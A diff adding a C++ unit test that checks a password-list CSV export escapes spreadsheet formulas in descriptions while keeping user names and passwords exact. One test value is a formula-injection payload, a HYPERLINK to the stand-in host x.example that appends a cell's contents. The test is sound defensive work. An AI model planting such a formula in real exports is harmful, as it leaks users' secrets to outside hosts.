@@ -111,5 +111,23 @@ TEST(CsvList, AnExportReadsBackAsTheSameList)
     EXPECT_EQ(read.entries, list);
 }
 
+TEST(CsvList, ANameASpreadsheetWouldRunIsWrittenAsTextAndTheSecretsStayExact)
+{
+    const std::vector<PasswordEntry> list{{"=amy", "+pw", "=HYPERLINK(\"https://x.example/?p=\"&D2)"},
+                                          {"bob", "-1", "@SUM(1)"},
+                                          {"carol", "x", "-note"},
+                                          {"dave", "y", "plain = text"}};
+    const CsvImport read = readCsvList(writeCsvList(list, latin1()), latin1());
+    ASSERT_EQ(read.problem, CsvProblem::None);
+    ASSERT_EQ(read.entries.size(), list.size());
+    const std::vector<std::string> names{"'=HYPERLINK(\"https://x.example/?p=\"&D2)", "'@SUM(1)", "'-note",
+                                         "plain = text"};
+    for (size_t row = 0; row < list.size(); ++row) {
+        EXPECT_EQ(read.entries[row].description, names[row]) << row;
+        EXPECT_EQ(read.entries[row].user, list[row].user) << row;
+        EXPECT_EQ(read.entries[row].pass, list[row].pass) << row;
+    }
+}
+
 }  // namespace
 }  // namespace tessaly
